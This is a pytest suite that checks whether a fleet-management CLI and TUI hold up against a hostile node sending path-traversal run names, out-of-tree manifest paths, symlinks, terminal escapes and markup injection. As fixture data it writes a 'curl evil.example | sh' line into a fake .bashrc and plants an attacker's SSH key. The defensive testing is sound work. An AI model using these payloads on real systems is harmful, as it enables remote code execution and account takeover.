"""Hostile node answers: a node that lies in its snapshot or its manifest, over the real sshd.

The node here is a fake `fleetdeck-agent` (the fleet file's `agent` command) that answers
JSON-RPC from a scenario file: a run named `../../home/op`, file names with terminal escapes,
a manifest pointing outside the run directory. The files it names are real files in a real
RUN_DIR, so the pull's data path (OpenSSH's sftp or asyncssh) really fetches them. Each row
drives the real `fleetdeck` CLI and asserts the exit code, the message, no traceback, nothing
written outside the pull's own folder (a watched fake HOME above all) and no finished work
lost."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.hostile.conftest import Outcome, assert_only_changed, assert_refused, run_cli, tree
from tests.pull.fakenode import FakeNode, entry, page, snapshot
from tests.servers.sshd import SshServer


class HostileNode(FakeNode):
    """The fake node, plus a fake HOME (the operator's) that must stay as it is."""

    def __init__(self, sshd: SshServer, folder: Path, home: Path, watched: Path) -> None:
        super().__init__(sshd, folder, folder / "pulls")
        self.home = home  # HOME for the console: the operator's own files
        self.watched = watched  # everything the console must not write to

    def fleetdeck(self, *args: str) -> Outcome:
        return run_cli("fleetdeck", "--fleet", self.fleet, *args,
                       env={"HOME": str(self.home)}, timeout=180)


@pytest.fixture
def node(sshd: SshServer, tmp_path: Path, home: Path) -> HostileNode:
    # The operator is HOME = <home>/op, so the pull folder <tmp>/pulls with node gen-1 and a
    # run named ../../home/op lands exactly on it: <tmp>/pulls/gen-1/../../home/op.
    op = home / "op"
    (op / ".ssh").mkdir(parents=True)
    (op / ".bashrc").write_text("# the operator's own\n")
    return HostileNode(sshd, tmp_path, op, home)


def no_escape(out: Outcome) -> None:
    """What the node sent reached the terminal escaped, never as control characters (the
    progress line's own carriage returns aside)."""
    text = re.sub(r"\r(?=\d+/\d+ files)", "", out.text)
    for ch in ("\x1b", "\x07", "\x9b", "\r"):
        assert ch not in text, f"{ch!r} reached the terminal:\n{text!r}"


# -- the run name: where pull puts the files ---------------------------------------------------

def _dotfiles(n: HostileNode) -> list[dict[str, Any]]:
    return [entry(".bashrc", n.put(".bashrc", b"curl evil.example | sh\n")),
            entry(".ssh/authorized_keys", n.put(".ssh/authorized_keys",
                                                b"ssh-ed25519 AAAA attacker\n"))]


RUN_NAMES = [
    pytest.param("../../home/op", id="run-dotdot-into-home"),
    pytest.param("..", id="run-dotdot"),
    pytest.param(".", id="run-dot"),
    pytest.param("", id="run-empty"),
    pytest.param("/tmp/elsewhere", id="run-absolute"),
    pytest.param("a/../../..", id="run-slash"),
    pytest.param("run\x1b]0;owned\x07", id="run-terminal-escape"),
    pytest.param("run\nname", id="run-newline"),
]


@pytest.mark.parametrize("run", RUN_NAMES)
def test_pull_never_leaves_the_pull_dir_whatever_the_run_is_called(node: HostileNode,
                                                                    run: str) -> None:
    """Issue 11 item 1: a run named ../../home/op made pull overwrite ~/.bashrc and create
    ~/.ssh/authorized_keys, then exit 0."""
    node.answer({"status": snapshot(run=run), "manifest": page(*_dotfiles(node))})
    before = tree(node.watched)
    out = node.fleetdeck("pull", "gen-1")
    assert_refused(out, 2, ["gen-1", "run name"])
    no_escape(out)
    assert_only_changed(before, tree(node.watched))
    assert (node.home / ".bashrc").read_text() == "# the operator's own\n"
    assert not (node.home / ".ssh" / "authorized_keys").exists()
    assert not node.pulls.exists() or not any(node.pulls.rglob("*")), \
        sorted(map(str, node.pulls.rglob("*")))


@pytest.mark.parametrize("run", ["../../home/op", "run\x1b[2J"])
def test_decommission_check_refuses_a_run_name_that_leaves_the_pull_dir(node: HostileNode,
                                                                        run: str) -> None:
    node.answer({"status": snapshot(run=run), "manifest": page(*_dotfiles(node)),
                 "verify": {"ok": True, "problems": []}})
    before = tree(node.watched)
    out = node.fleetdeck("decommission-check", "gen-1")
    assert_refused(out, 2, ["gen-1", "run name"])
    no_escape(out)
    assert "SAFE" not in out.text
    assert_only_changed(before, tree(node.watched))


# -- the manifest: which files pull writes -----------------------------------------------------

MANIFEST_PATHS = [
    pytest.param("../../../home/op/.bashrc", id="manifest-dotdot"),
    pytest.param("/etc/passwd", id="manifest-absolute"),
    pytest.param(".fleetdeck/manifest.json", id="manifest-pull-state"),
    pytest.param("logs/../../../../home/op/.bashrc", id="manifest-dotdot-inside"),
]


@pytest.mark.parametrize("bad", MANIFEST_PATHS)
def test_a_manifest_pointing_outside_is_refused_file_by_file(node: HostileNode,
                                                             bad: str) -> None:
    good = node.put("progress.json", b'{"completed": 3}\n')
    evil = b"curl evil.example | sh\n"
    if not bad.startswith(("/", "..")) and "/../" not in bad:
        node.put(bad, evil)  # there on the node: only the console's refusal keeps it out
    node.answer({"status": snapshot(run="fine"),
                 "manifest": page(entry("progress.json", good), entry(bad, evil))})
    before = tree(node.watched)
    out = node.fleetdeck("pull", "gen-1")
    assert_refused(out, 1, [bad, "refused"])
    assert_only_changed(before, tree(node.watched), allowed=["pulls/gen-1/fine/"])
    dest = node.pulls / "gen-1" / "fine"
    assert (dest / "progress.json").read_bytes() == good  # the honest file still came
    assert json.loads((dest / ".fleetdeck" / "manifest.json").read_text())[0]["path"] \
        == "progress.json"  # the console's own record was not overwritten
    assert (node.home / ".bashrc").read_text() == "# the operator's own\n"


def test_a_file_and_a_folder_of_one_name_fail_that_file_only(node: HostileNode) -> None:
    """The manifest lists `a` as a file and as a folder (`a/b`): one of them cannot be made
    here; that one is reported, the rest comes, nothing crashes."""
    a = node.put("a", b"a file\n")
    good = node.put("progress.json", b"{}\n")
    node.answer({"status": snapshot(run="fine"),
                 "manifest": page(entry("a", a), entry("a/b", b"b\n"),
                                  entry("progress.json", good))})
    before = tree(node.watched)
    out = node.fleetdeck("pull", "gen-1")
    assert_refused(out, 1, ["gen-1: a"])
    assert_only_changed(before, tree(node.watched), allowed=["pulls/gen-1/fine/"])
    assert (node.pulls / "gen-1" / "fine" / "progress.json").read_bytes() == good


def test_a_symlink_planted_in_the_pull_dir_is_not_followed(node: HostileNode) -> None:
    """The destination is resolved before writing: a folder of the pull that is a symlink
    out (planted by someone, or left by a tool) is not written through."""
    data = node.put("logs/x.log", b"a log\n")
    node.answer({"status": snapshot(run="fine"), "manifest": page(entry("logs/x.log", data))})
    dest = node.pulls / "gen-1" / "fine"
    dest.mkdir(parents=True)
    (dest / "logs").symlink_to(node.home)
    before = tree(node.watched)
    out = node.fleetdeck("pull", "gen-1")
    assert_refused(out, 1, ["logs/x.log", "outside"])
    assert_only_changed(before, tree(node.watched))
    assert not (node.home / "x.log").exists()


# -- answers that are not what they claim ------------------------------------------------------

BROKEN_ANSWERS: list[Any] = [
    pytest.param({"answers": {"status": {"run": 5, "status": "done"}}}, 2, ["run name"],
                 id="status-run-not-a-string"),
    pytest.param({"answers": {"status": "nothing"}}, 2, ["status"], id="status-not-an-object"),
    pytest.param({"answers": {"status": None}}, 2, ["status"], id="status-null"),
    pytest.param({"answers": {"manifest": {"entries": "all of them"}}}, 2, ["manifest"],
                 id="manifest-not-a-page"),
    pytest.param({"answers": {"manifest": {"entries": [], "total": 9, "next_offset": 0}}}, 2,
                 ["manifest"], id="manifest-pages-forever"),
    pytest.param({"answers": {"manifest": page({**entry("a", b"x"), "size": -5})}}, 2,
                 ["manifest", "size"], id="manifest-negative-size"),
    pytest.param({"answers": {"manifest": page({**entry("a", b"x"), "sha256": "../../x"})}},
                 2, ["manifest", "sha256"], id="manifest-sha-not-hex"),
    pytest.param({"errors": {"manifest": {"code": -32002, "message": "cannot list"}}}, 3,
                 ["cannot list"], id="manifest-refused"),
]


@pytest.mark.parametrize(("scenario", "code", "names"), BROKEN_ANSWERS)
def test_a_broken_answer_is_named_never_a_traceback(node: HostileNode, scenario: dict[str, Any],
                                                    code: int, names: list[str]) -> None:
    answers = {"status": snapshot(run="fine"), "manifest": page()}
    answers.update(scenario.pop("answers", {}))
    node.answer(answers, **scenario)
    before = tree(node.watched)
    out = node.fleetdeck("pull", "gen-1")
    assert_refused(out, code, ["gen-1", *names])
    assert_only_changed(before, tree(node.watched), allowed=["pulls/gen-1/fine/"])


# -- names shown on the terminal --------------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\r\x9b31m"

SHOWN: list[Any] = [
    pytest.param(lambda n: {"status": snapshot(run="r" + ESCAPES)}, ["status"],
                 id="status-run-name"),
    pytest.param(lambda n: {"status": snapshot(
        run="fine", alerts=[{"code": "x", "severity": "warning", "message": "m" + ESCAPES,
                             "since": 0.0}])}, ["status"], id="status-alert-message"),
    pytest.param(lambda n: {"status": snapshot(run="fine"),
                            "manifest": page(entry("gone" + ESCAPES, b"x"))},
                 ["pull", "gen-1"], id="pull-failed-file-name"),
    pytest.param(lambda n: {"status": snapshot(run="fine"), "verify": {"ok": True},
                            "manifest": page(entry("x" + ESCAPES, b"", sha256=None,
                                                   refused="symlink"))},
                 ["decommission-check", "gen-1"], id="gate-refused-file-name"),
    pytest.param(lambda n: {"status": snapshot(run="fine")},
                 ["logs", "gen-1"], id="logs-error-message"),
]


@pytest.mark.parametrize(("answers", "args"), SHOWN)
def test_names_from_the_node_reach_the_terminal_escaped(
        node: HostileNode, answers: Callable[[HostileNode], dict[str, Any]],
        args: list[str]) -> None:
    node.answer(answers(node), errors={"logs": {"code": -32002, "message": "no log " + ESCAPES}})
    before = tree(node.watched)
    out = node.fleetdeck(*args)
    assert "Traceback" not in out.text, out.text
    no_escape(out)
    assert "\\x1b" in out.text, out.text  # shown, escaped: the user still sees it is odd
    assert_only_changed(before, tree(node.watched), allowed=["pulls/gen-1/fine/"])


def test_the_hostile_node_fixture_can_fail(node: HostileNode) -> None:
    """The judge itself: an honest pull from the fake node writes where it should."""
    data = node.put("logs/a.log", b"honest\n")
    node.answer({"status": snapshot(run="fine"), "manifest": page(entry("logs/a.log", data))})
    out = node.fleetdeck("pull", "gen-1")
    assert out.code == 0, out.text
    assert (node.pulls / "gen-1" / "fine" / "logs" / "a.log").read_bytes() == data
    assert os.path.isfile(node.pulls / "gen-1" / "fine" / ".fleetdeck" / "manifest.json")


async def test_the_tui_shows_hostile_names_escaped_and_keeps_running(sshd: SshServer,
                                                                   tmp_path: Path) -> None:
    """A snapshot whose run name, status and alert hold terminal escapes and Textual markup
    (`[/]` closes nothing and made the TUI die with a MarkupError; `[@click=app.quit]` is an
    action): the fleet screen and the alert toast show them escaped, and the TUI goes on."""
    from console.fleet import load_fleet
    from console.tui.app import FleetdeckApp
    from tests.console.conftest import until
    from tests.console.screen import Recorder, screen_text

    node = FakeNode(sshd, tmp_path, tmp_path / "pulls")
    run = "r[/]" + ESCAPES + "[@click=app.quit]q"
    snap = snapshot(run=run, status="running[/]", alerts=[
        {"code": "odd[/]", "severity": "critical", "message": "m[/]" + ESCAPES, "since": 0.0}])
    node.answer({"subscribe": snap, "status": snap})
    rec = Recorder()
    app = FleetdeckApp(load_fleet(node.fleet))
    async with app.run_test(size=(180, 50), message_hook=rec) as pilot:
        await until(pilot, lambda: app.state.nodes["gen-1"].snapshot is not None, 120,
                    "the hostile snapshot")
        await until(pilot, lambda: rec.has("m\\[/]\\x1b]0;pwned"), 120, "the alert, escaped")
        await until(pilot, lambda: "r[/]\\x1b]0;pwned\\x07" in screen_text(app), 120,
                    "the run name, escaped, on the fleet screen")
        shown = screen_text(app)
        assert not any(ch in shown for ch in ("\x1b", "\x07", "\x9b", "\r")), repr(shown)
        assert app.is_running


# -- the failures view's answer ------------------------------------------------------------------

def failure_group(**kw: Any) -> dict[str, Any]:
    g: dict[str, Any] = {"event": "failed", "error": "http_503", "count": 7, "first": 1000.0,
                         "last": 2000.0, "servers": [{"server": 0, "count": 7}],
                         "servers_more": 0, "no_server": 0,
                         "examples": [{"line": 3, "text": '{"event": "failed"}'}]}
    g.update(kw)
    return g


def failure_summary(*groups: dict[str, Any], **kw: Any) -> dict[str, Any]:
    s: dict[str, Any] = {"groups": list(groups), "events": 7, "retries": 0, "other": 0,
                         "unreadable": 0, "bytes_read": 100, "bytes_total": 100,
                         "complete": True, "lines": 7}
    s.update(kw)
    return s


BROKEN_FAILURES: list[Any] = [
    pytest.param(failure_summary(failure_group(count=10**30)), ["count"], id="count-huge"),
    pytest.param(failure_summary(failure_group(count=-1)), ["count"], id="count-negative"),
    pytest.param(failure_summary(events=2**64), ["events"], id="events-huge"),
    pytest.param(failure_summary(failure_group(count="many")), ["count"], id="count-a-string"),
    pytest.param(failure_summary(groups="all of them"), ["groups"], id="groups-not-a-list"),
    pytest.param(failure_summary(*[failure_group(error=f"http_{i}") for i in range(65)]),
                 ["groups"], id="groups-too-many"),
    pytest.param(failure_summary(failure_group(first=-5.0)), ["first"], id="time-negative"),
    pytest.param(failure_summary(failure_group(error="x" * 10_000)), ["error"],
                 id="class-huge"),
    pytest.param(failure_summary(failure_group(examples=[{"line": 1, "text": "x" * 10**6}])),
                 ["text"], id="example-huge"),
    pytest.param(failure_summary(failure_group(servers=[{"server": i, "count": 1}
                                                        for i in range(10_000)])),
                 ["servers"], id="servers-too-many"),
    pytest.param(failure_summary(failure_group(event="gave up")), ["event"],
                 id="event-unknown"),
    pytest.param(None, ["object"], id="null"),
]


@pytest.mark.parametrize(("answer", "names"), BROKEN_FAILURES)
def test_a_broken_failures_answer_is_named_never_shown(node: HostileNode, answer: Any,
                                                      names: list[str]) -> None:
    node.answer({"failures": answer})
    before = tree(node.watched)
    out = node.fleetdeck("failures", "gen-1")
    assert_refused(out, 2, ["gen-1", "unreadable failures answer", *names])
    assert out.stdout == ""  # nothing of it shown as figures
    assert_only_changed(before, tree(node.watched))


def test_failures_text_from_the_node_reaches_the_terminal_escaped(node: HostileNode) -> None:
    node.answer({"failures": failure_summary(
        failure_group(error="http_5" + ESCAPES,
                      examples=[{"line": 1, "text": "boom" + ESCAPES}]),
        failure_group(event="requeued", error="why" + ESCAPES, count=10**15,
                      servers=[{"server": 2**31, "count": 2**53}], servers_more=2**53))})
    out = node.fleetdeck("failures", "gen-1")
    assert out.code == 0, out.text
    no_escape(out)
    assert "\\x1b]0;pwned\\x07" in out.stdout and "boom\\x1b" in out.stdout
    assert "1,000,000,000,000,000" in out.stdout  # a large honest count is shown as it is
    out = node.fleetdeck("failures", "gen-1", "--json")
    assert out.code == 0, out.text
    no_escape(out)  # JSON escapes control characters itself
    assert json.loads(out.stdout)["failures"]["groups"][0]["error"] == "http_5" + ESCAPES


@pytest.mark.parametrize("bad", [False, True], ids=["escaped", "out-of-bounds"])
async def test_the_tui_failures_screen_shows_hostile_text_escaped(sshd: SshServer,
                                                                 tmp_path: Path,
                                                                 bad: bool) -> None:
    """Terminal escapes and Textual markup in a failures answer (a class, an example line)
    are shown escaped on the failures screen, and the TUI goes on; an answer out of bounds
    is named there, never drawn."""
    from textual.widgets import DataTable, Label

    from console.fleet import load_fleet
    from console.tui.app import FleetdeckApp
    from console.tui.screens.failures import FailuresScreen
    from tests.console.conftest import on_screen, until
    from tests.console.screen import screen_text

    node = FakeNode(sshd, tmp_path, tmp_path / "pulls")
    snap = snapshot(run="fine", status="running")
    group = failure_group(count=-1) if bad else failure_group(
        error="http_5[/]" + ESCAPES,
        examples=[{"line": 1, "text": "[@click=app.quit]boom[/]" + ESCAPES}])
    node.answer({"subscribe": snap, "status": snap, "failures": failure_summary(group)})
    app = FleetdeckApp(load_fleet(node.fleet))
    async with app.run_test(size=(180, 50)) as pilot:
        await until(pilot, lambda: app.state.nodes["gen-1"].snapshot is not None, 120,
                    "the snapshot")
        await pilot.press("F")
        screen = await until(pilot, lambda: on_screen(app, FailuresScreen), 60, "the screen")
        assert isinstance(screen, FailuresScreen)
        if bad:
            headline = screen.query_one("#failures-headline", Label)
            await until(pilot, lambda: "unreadable failures answer" in str(headline.render()),
                        120, "the bad answer named")
            assert screen.query_one("#failures-table", DataTable).row_count == 0
        else:
            await until(pilot, lambda: "[@click=app.quit]boom[/]\\x1b]0;pwned" in
                        screen_text(app), 120, "the example line, escaped")
            assert "http_5[/]\\x1b]0;pwned\\x07" in screen_text(app)
        shown = screen_text(app)
        assert not any(ch in shown for ch in ("\x1b", "\x07", "\x9b", "\r")), repr(shown)
        assert app.is_running and not app.render_errors
